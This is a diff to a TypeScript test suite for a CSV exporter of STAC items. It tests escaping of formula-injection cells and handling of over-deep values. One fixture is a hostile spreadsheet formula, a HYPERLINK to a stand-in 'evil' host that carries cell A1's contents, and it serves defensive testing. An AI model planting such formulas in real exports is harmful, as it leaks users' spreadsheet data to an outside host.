@@ -133,6 +133,7 @@ describe('csv options', () => {
       path: 'out/kaguya-tc.csv',
       columns: ['id', 'datetime', { incidence: 'incidence_angle' }, 'gsd', 'assets.image.href'],
       include_failed: true,
+      escape_formulas: true,
     });
   });
 
@@ -149,5 +150,40 @@ describe('csv options', () => {
 
   it('have a JSON Schema', () => {
     expect(z.toJSONSchema(csvOptions, { io: 'input' })).toMatchObject({ type: 'object', required: ['path'] });
+  });
+});
+
+describe('csv: formula injection and values that cannot be written', () => {
+  const plain = (id: string, properties: Record<string, unknown> = {}): StacItem => ({ type: 'Feature', id, collection: 'c', geometry: null, properties, assets: {} });
+  const hostile = withFields(newEntry(plain('=HYPERLINK("http://evil/?x="&A1,"click")')), { lon: -12.5, note: '-12.5', at: '@SUM(A1)', plus: '+1', tab: '\tx', cr: '\rx' });
+
+  it('escapes text cells beginning with =, +, -, @, tab or CR with a quote, never numbers (escape_formulas, the default)', async () => {
+    const path = join(dir, 'escaped.csv');
+    await writeAll({ path, columns: ['id', 'lon', 'note', 'at', 'plus', 'tab', 'cr'] }, [hostile]);
+    const [, row] = readFileSync(path, 'utf8').split('\n');
+    expect(row).toBe(`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-12.5,'-12.5,'@SUM(A1),'+1,'\tx,"'\rx",`);
+  });
+
+  it('writes every cell as it is with escape_formulas: false', async () => {
+    const path = join(dir, 'raw.csv');
+    await writeAll({ path, columns: ['id', 'lon', 'note', 'at'], escape_formulas: false }, [hostile]);
+    const [, row] = readFileSync(path, 'utf8').split('\n');
+    expect(row).toBe('"=HYPERLINK(""http://evil/?x=""&A1,""click"")",-12.5,-12.5,@SUM(A1),');
+  });
+
+  it('a value nested too deep for JSON fails its entry (ERR_CSV_CELL, the cell empty), and every row is written', async () => {
+    let deep: unknown = 1;
+    for (let i = 0; i < 200_000; i += 1) deep = [deep];
+    const entries = [newEntry(plain('before')), withFields(newEntry(plain('deep')), { nested: deep }), newEntry(plain('after'))];
+    const ctx = testContext('csv');
+    const path = join(dir, 'deep.csv');
+    const result = await writeAll({ path, columns: ['id', 'nested'] }, entries, ctx);
+    expect(result.rows).toBe(3);
+    const lines = readFileSync(path, 'utf8').trim().split('\n');
+    expect(lines[0]).toBe('id,nested,failed');
+    expect(lines[1]).toBe('before,,');
+    expect(lines[2]).toMatch(/^deep,,csv: column nested: the value cannot be written as text \(Maximum call stack size exceeded\)/);
+    expect(lines[3]).toBe('after,,');
+    expect(ctx.stats.failures).toMatchObject([{ item: 'deep', stage: 'csv', code: 'ERR_CSV_CELL' }]);
   });
 });
